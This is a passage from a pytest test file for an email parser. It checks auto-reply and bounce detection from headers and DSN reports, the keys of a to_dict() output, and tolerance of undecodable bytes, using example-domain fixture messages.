# ============================================================================ auto_submitted

AUTO_TRIGGERS = [
    ("Auto-Submitted", "auto-replied", "auto-replied"),
    ("Auto-Submitted", "auto-generated", "auto-generated"),
    ("Auto-Submitted", "auto-notified", "auto-generated"),
    ("X-Autoreply", "yes", "auto-replied"),
    ("X-Autorespond", "Out of office", "auto-replied"),
    ("Precedence", "bulk", "auto-generated"),
    ("Precedence", "junk", "auto-generated"),
    ("Precedence", "list", "list"),
    ("X-Auto-Response-Suppress", "All", "auto-generated"),
    ("List-Id", "Developers <dev.lists.example.org>", "list"),
    ("Return-Path", "<>", "auto-generated"),
]


@pytest.mark.parametrize(("header", "value", "kind"), AUTO_TRIGGERS, ids=[f"{h}={v}" for h, v, _ in AUTO_TRIGGERS])
def test_auto_submitted_trigger(header, value, kind):
    result = parse_ok(message(headers=[(header, value)]))
    assert result.auto_submitted is not None
    assert result.auto_submitted.kind == kind
    assert result.auto_submitted.reason


def test_auto_submitted_none_for_a_normal_message():
    assert parse_ok(message(headers=[("Return-Path", "<alice@example.com>")])).auto_submitted is None


def test_auto_submitted_no_means_not_automatic():
    assert parse_ok(message(headers=[("Auto-Submitted", "no")])).auto_submitted is None


def test_empty_return_path_yields_to_a_more_specific_trigger():
    result = parse_ok(message(headers=[("Return-Path", "<>"), ("Auto-Submitted", "auto-replied")]))
    assert result.auto_submitted is not None
    assert result.auto_submitted.kind == "auto-replied"


DELIVERY_STATUS = part(
    "message/delivery-status",
    b"Reporting-MTA: dns; mx.example.com\n"
    b"Arrival-Date: Mon, 02 Jun 2025 10:00:05 +0000\n"
    b"\n"
    b"Final-Recipient: rfc822; nobody@example.org\n"
    b"Action: failed\n"
    b"Status: 5.1.1\n"
    b"Diagnostic-Code: smtp; 550 5.1.1 User unknown\n",
)

ORIGINAL = message(
    part("text/plain", "Hello nobody.\n"),
    headers=[
        ("From", "alice@example.com"),
        ("To", "nobody@example.org"),
        ("Subject", "Are you there?"),
        ("Message-ID", "<orig-123@example.com>"),
    ],
)


@pytest.mark.parametrize("third", ["message/rfc822", "text/rfc822-headers"])
def test_dsn_bounce_with_original_message_id(third):
    original = ORIGINAL if third == "message/rfc822" else ORIGINAL.split(b"\n\n", 1)[0] + b"\n"
    raw = message(
        multipart(
            "report",
            [
                part("text/plain; charset=us-ascii", "Your message could not be delivered to nobody@example.org.\n"),
                DELIVERY_STATUS,
                part(third, original),
            ],
            params="; report-type=delivery-status",
        ),
        headers=[
            ("From", "MAILER-DAEMON@mx.example.com (Mail Delivery System)"),
            ("To", "alice@example.com"),
            ("Subject", "Undelivered Mail Returned to Sender"),
            ("Return-Path", "<>"),
            ("Message-ID", "<bounce-1@mx.example.com>"),
        ],
    )
    result = parse_ok(raw)
    assert result.auto_submitted is not None
    assert result.auto_submitted.kind == "bounce"
    assert result.auto_submitted.original_message_id == "orig-123@example.com"
    assert result.auto_submitted.reason
    assert "could not be delivered" in result.text


# ============================================================================ to_dict


def test_to_dict_has_exactly_the_documented_keys():
    raw = message(
        multipart(
            "mixed",
            [
                part("text/plain", "Hello.\n"),
                part("application/pdf", PDF, cte="base64", filename="a.pdf", content_id="<a@x>"),
            ],
        ),
        headers=[("Auto-Submitted", "auto-generated"), ("Reply-To", "r@example.com"), ("Cc", "c@example.com")],
    )
    result = parse_ok(raw)
    d = result.to_dict()
    assert set(d) == TO_DICT_KEYS
    assert set(d["from"]) == {"name", "address"}
    assert all(set(a) == {"name", "address"} for a in d["to"] + d["cc"] + d["reply_to"])
    assert d["attachments"] and all(set(a) == ATTACHMENT_KEYS for a in d["attachments"])
    assert set(d["auto_submitted"]) == AUTO_SUBMITTED_KEYS
    assert d["date"] == "2025-06-02T10:00:00+00:00"
    assert isinstance(d["references"], list) and isinstance(d["defects"], list)
    json.dumps(d)


def test_to_dict_of_a_minimal_message_is_json():
    result = parse_ok(b"Subject: bare\n\nJust a body.\n")
    d = result.to_dict()
    assert set(d) == TO_DICT_KEYS
    assert d["from"] is None and d["date"] is None and d["auto_submitted"] is None and d["html"] is None
    assert "Just a body." in d["text"]
    json.loads(json.dumps(d))


def test_to_dict_json_with_undecodable_bytes_everywhere():
    raw = (
        b"From: \xff\xfe Bad <bad@example.com>\n"
        b"Subject: \x80\x81\x82 \xc3\x28 mixed\n"
        b"Message-ID: <\xe9t\xe9@example.com>\n"
        b"Content-Type: text/plain; charset=utf-8\n\n"
        b"\xff\xfe\xfd broken \xc3\x28 body\n"
    )
    result = parse_ok(raw)
    assert "broken" in result.text


def test_text_message_helper_roundtrip():
    # Sanity check of the builders themselves: a plain UTF-8 message parses to its text.
    result = parse_ok(text_message("Grüße, Bob!\n"))
    assert "Grüße, Bob!" in result.text
    assert result.subject == "Test message"
    assert result.from_ == Address("Alice Example", "alice@example.com")
